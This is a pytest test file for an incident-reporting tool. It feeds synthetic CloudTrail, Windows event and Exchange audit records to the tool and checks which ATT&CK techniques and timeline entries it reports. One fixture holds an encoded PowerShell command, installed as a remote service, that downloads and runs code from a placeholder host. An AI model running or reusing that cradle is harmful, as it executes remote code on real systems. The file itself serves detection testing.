"""Incidents of a few records: what a single act must be told as, where nothing else explains it."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import pytest

from .conftest import Told
from .making import Day, Scenario, make_truth, zulu

pytestmark = pytest.mark.timeout(300)
Tell = Callable[[Scenario], Told]
DAY = Day("2026-02-11")


def small(name: str, records: Iterable[dict[str, Any]]) -> Scenario:
    """A scenario of JSON lines. Its score is not looked at."""
    lines = [json.dumps(r) for r in records]

    def write(folder: Path) -> None:
        (folder / "records.json").write_text("\n".join(lines) + "\n")

    facts = (("any", 1, ("2026",)),)
    truth = make_truth(name, facts, "any", "T1078", "", ("2026-02-11T00:00:00Z", "2026-02-11T23:00:00Z"), ())
    return Scenario(name, write, truth)


def call(name: str, service: str, clock: str, agent: str, **request: Any) -> dict[str, Any]:
    """A CloudTrail record of one user and key."""
    return {
        "eventVersion": "1.09", "eventTime": zulu(DAY.at(clock)), "eventName": name, "eventSource": f"{service}.amazonaws.com",
        "awsRegion": "eu-north-1", "sourceIPAddress": "198.51.100.61", "userAgent": agent, "eventType": "AwsApiCall",
        "requestParameters": request or None, "responseElements": None, "recipientAccountId": "224466880011",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::224466880011:user/orla", "accountId": "224466880011",
                         "accessKeyId": "AKIAQ7ORLAQ7ORLAQ7OR", "userName": "orla"},
    }  # fmt: skip


CLI = "aws-cli/2.17.9 md/awscrt#0.20.11 ua/2.0 os/macos#23.5.0"


def said(told: Told) -> tuple[str, set[str]]:
    """All summaries of the timeline, and the techniques."""
    report = told.report
    return " ".join(e["summary"] for e in report["timeline"]), {t["id"] for t in report["techniques"]}


def test_many_secrets_read_are_told_though_each_alone_says_little(tell: Tell) -> None:
    calls = [
        call("GetParameters", "ssm", f"09:10:{n:02d}", CLI, names=[f"/pay/{n}"], withDecryption=True) for n in range(6)
    ]
    text, techniques = said(tell(small("secrets", calls)))
    assert "GetParameters" in text
    assert "T1555.006" in techniques


def test_an_agent_made_for_attacks_is_told_for_what_it_calls(tell: Tell) -> None:
    agent = "aws-cli/1.22.4 Python/3.11.9 Linux/6.6.15-kali-amd64 botocore/1.23.4"
    text, techniques = said(
        tell(
            small(
                "kali",
                [
                    call(
                        "ModifyInstanceAttribute",
                        "ec2",
                        "11:00:00",
                        agent,
                        instanceId="i-0c9d8e7f6a5b4c3d2",
                        userData="…",
                    )
                ],
            )
        )
    )
    assert "ModifyInstanceAttribute on i-0c9d8e7f6a5b4c3d2" in text
    assert "T1037" in techniques


def test_one_listing_accuses_nobody(tell: Tell) -> None:
    scenario = small("listing", [call("ListUsers", "iam", "08:00:00", CLI), call("ListRoles", "iam", "08:00:09", CLI)])
    with pytest.raises(AssertionError, match="nothing was found"):
        tell(scenario)


def windows(clock: str, code: int, channel: str, **data: Any) -> dict[str, Any]:
    """A flat record as NXLog ships it: the number of the logging service stands where Sysmon's own should."""
    provider = "Microsoft-Windows-Sysmon" if "Sysmon" in channel else "Microsoft-Windows-Security-Auditing"
    return {
        "EventTime": f"2026-02-11 {clock}", "@timestamp": zulu(DAY.at(clock), 3), "Hostname": "OPS-31.brae.example", "EventID": code,
        "SourceName": provider, "Channel": channel, "ExecutionProcessID": 2280, **data,
    }  # fmt: skip


SYSMON, SECURITY = "Microsoft-Windows-Sysmon/Operational", "Security"
SHELL = r"C:\Windows\System32\cmd.exe"
COMMAND = (
    r"C:\Windows\system32\cmd.exe /C C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -w hidden -enc "
    + (
        "SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABpAGUAbgB0ACkALgBkAG8AdwBuAGwAbwBhAGQAcwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcANwAvAGEAJwApAA=="
    )
)
REMOTE_SERVICE = (
    windows("13:20:01.100", 4624, SECURITY, TargetUserName="tamsin", TargetDomainName="BRAE", LogonType="3",
            IpAddress="10.40.0.18", IpPort="50211", TargetLogonId="0x9a11f"),
    windows("13:20:01.400", 4697, SECURITY, SubjectUserName="tamsin", SubjectDomainName="BRAE", ServiceName="KQTRNZ",
            ServiceFileName=COMMAND, ServiceType="0x10", ServiceStartType="3", ServiceAccount="LocalSystem"),
    windows("13:20:01.700", 4688, SECURITY, SubjectUserName="OPS-31$", SubjectDomainName="BRAE", NewProcessId="0x1126",
            NewProcessName=SHELL, ProcessId="0x2bc", CommandLine=COMMAND),
    windows("13:20:01.750", 1, SYSMON, UtcTime="2026-02-11 13:20:01.690", ProcessGuid="{5e0c-01}", Image=SHELL, CommandLine=COMMAND,
            User=r"NT AUTHORITY\SYSTEM", ParentProcessId="700", ParentImage=r"C:\Windows\System32\services.exe",
            ParentProcessGuid="{5e0c-00}", Hashes="SHA256=" + "5C" * 32),
)  # fmt: skip


def test_a_service_from_afar_is_told_with_the_logon_that_opened_the_way_and_each_start_once(tell: Tell) -> None:
    told = tell(small("service", REMOTE_SERVICE))
    summaries = [e["summary"] for e in told.report["timeline"]]
    order = [
        next(n for n, s in enumerate(summaries) if w in s)
        for w in ("BRAE\\tamsin logged on", "KQTRNZ was installed", "started cmd.exe")
    ]
    assert order == sorted(order)
    starts = [s for s in summaries if "started cmd.exe" in s]
    assert len(starts) == 1
    assert "(pid 4390)" in starts[0]
    assert "NT AUTHORITY\\SYSTEM" in starts[0]
    assert {"T1021.002", "T1543.003"} <= said(told)[1]


def test_a_cleared_log_is_told_though_nobody_is_named(tell: Tell) -> None:
    told = tell(small("cleared", [windows("07:00:00.000", 1102, SECURITY)]))
    assert said(told)[0] == "The Security event log on OPS-31 was cleared."


SERVICE_PIPE = windows(
    "08:30:00.000", 5145, SECURITY, SubjectUserName="tamsin", SubjectDomainName="BRAE", IpAddress="10.40.0.18",
    IpPort="50300", ShareName="\\\\*\\IPC$", RelativeTargetName="svcctl", AccessMask="0x12019f",
)  # fmt: skip


def test_a_weak_record_is_told_where_the_whole_evidence_is_a_handful(tell: Tell) -> None:
    text, techniques = said(tell(small("handful", [SERVICE_PIPE])))
    assert "Service control reached over the network" in text
    assert "T1569.002" in techniques


def test_a_weak_record_says_nothing_in_a_log_of_hundreds(tell: Tell) -> None:
    quiet = [
        windows(f"09:{n // 60:02d}:{n % 60:02d}.000", 4634, SECURITY, TargetUserName="tamsin", TargetDomainName="BRAE",
                TargetLogonId=f"0x{n:x}", LogonType="3")
        for n in range(320)
    ]  # fmt: skip
    with pytest.raises(AssertionError, match="nothing was found"):
        tell(small("hundreds", [SERVICE_PIPE, *quiet]))


def told_story(told: Told) -> str:
    """What the report tells, in order."""
    return "\n".join(
        c["text"] for s in told.report["report"]["sections"] if s["id"] == "what-happened" for c in s["claims"]
    )


SDK = "aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.4"


def as_role(record: dict[str, Any], role: str, session: str, key: str, ip: str = "") -> dict[str, Any]:
    """The same call by a session of a role."""
    identity = {
        "type": "AssumedRole",
        "arn": f"arn:aws:sts::224466880011:assumed-role/{role}/{session}",
        "accessKeyId": key,
    }
    return record | {"userIdentity": identity} | ({"sourceIPAddress": ip} if ip else {})


def test_a_sign_in_without_second_factor_is_told_though_nothing_follows(tell: Tell) -> None:
    agent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/127.0 Safari/537.36"
    login = call("ConsoleLogin", "signin", "04:10:00", agent) | {
        "eventType": "AwsConsoleSignIn", "responseElements": {"ConsoleLogin": "Success"}, "additionalEventData": {"MFAUsed": "No"},
    }  # fmt: skip
    login["userIdentity"].pop("accessKeyId")
    told = tell(small("login", [login]))
    assert "signed in to the console" in told_story(told)
    assert "MFAUsed: “No”" in told_story(told)
    assert "T1078.004" in said(told)[1]


def test_a_shared_snapshot_is_told_with_whom_and_the_agent_once(tell: Tell) -> None:
    calls = [
        call("ModifyDBSnapshotAttribute", "rds", "02:00:00", SDK, dBSnapshotIdentifier="ledger-1", valuesToAdd=["998877665544"]),
        call("ModifyDBSnapshotAttribute", "rds", "02:09:00", SDK, dBSnapshotIdentifier="ledger-2", valuesToAdd=["998877665544"]),
    ]  # fmt: skip
    story = told_story(tell(small("shared", calls)))
    assert "on ledger-1 (valuesToAdd: “998877665544”)" in story
    assert story.count(SDK) == 1


def test_calls_from_an_address_that_anonymising_broke_are_told_with_it(tell: Tell) -> None:
    record = call("StopLogging", "cloudtrail", "03:00:00", SDK, trailName="main") | {
        "sourceIPAddress": "225.178.039.250"
    }
    assert "from 225.178.039.250" in told_story(tell(small("broken", [record])))


def test_a_refused_machine_for_mining_is_told(tell: Tell) -> None:
    record = call("RunInstances", "ec2", "03:00:00", SDK, instanceType="p4d.24xlarge", imageId="ami-0f00") | {
        "errorCode": "Client.UnauthorizedOperation"
    }
    text, techniques = said(tell(small("mining", [record])))
    assert "RunInstances" in text
    assert "T1496.001" in techniques


def test_credentials_of_a_machine_used_where_a_command_was_sent_from_are_told(tell: Tell) -> None:
    stolen = as_role(call("GetCallerIdentity", "sts", "05:01:00", SDK), "web", "i-0c9d8e7f6a5b4c3d2", "ASIAQ7STOLEN")
    sent = call(
        "SendCommand", "ssm", "05:00:00", SDK, documentName="AWS-RunShellScript", instanceIds=["i-0c9d8e7f6a5b4c3d2"]
    )
    story = told_story(tell(small("stolen", [sent, stolen])))
    assert "SendCommand on i-0c9d8e7f6a5b4c3d2" in story
    assert "web/i-0c9d8e7f6a5b4c3d2 with access key ASIAQ7STOLEN called GetCallerIdentity" in story


def test_a_pipeline_that_does_the_same_each_time_is_accused_of_nothing(tell: Tell) -> None:
    steps = (
        ("GetCallerIdentity", "sts"),
        ("ListBuckets", "s3"),
        ("GetRole", "iam"),
        ("UpdateFunctionCode20150331v2", "lambda"),
    )
    calls = [
        as_role(call(name, service, f"{6 + run:02d}:0{n}:00", "Terraform/1.8.5 " + SDK), "deploy", "ci", f"ASIAQ7CI{run}", f"192.0.2.{run + 9}")
        for run in range(5)
        for n, (name, service) in enumerate(steps)
    ]  # fmt: skip
    with pytest.raises(AssertionError, match="nothing was found"):
        tell(small("pipeline", calls))


def test_a_mailbox_taken_over_is_told_from_the_sign_in_on(tell: Tell) -> None:
    def operation(
        name: str, clock: str, ip: str = "198.51.100.77", user: str = "orla@brae.example", **more: Any
    ) -> dict[str, Any]:
        return {
            "CreationTime": f"2026-02-11T{clock}",
            "Operation": name,
            "Workload": "Exchange",
            "UserId": user,
            "ClientIP": ip,
        } | more

    quiet = [operation("FileAccessed", f"08:{n:02d}:00", "203.0.113.9", f"u{n % 5}@brae.example") for n in range(40)]
    rule = [{"Name": "MoveToFolder", "Value": "RSS Feeds"}, {"Name": "MarkAsRead", "Value": "True"}]
    records = [
        *quiet,
        operation("UserLoggedIn", "09:00:00"),
        operation("New-InboxRule", "09:05:00", "198.51.100.77:4312", Parameters=rule),
        operation("FileDownloaded", "09:09:00", ObjectId="https://brae.example/pay.xlsx", SourceFileName="pay.xlsx"),
    ]
    told = tell(small("mailbox", records))
    story, techniques = told_story(told), said(told)[1]
    assert [w for w in ("UserLoggedIn", "New-InboxRule", "FileDownloaded", "FileAccessed") if w in story] == [
        "UserLoggedIn", "New-InboxRule", "FileDownloaded",
    ]  # fmt: skip
    assert {"T1078.004", "T1114.003", "T1213.002"} <= techniques
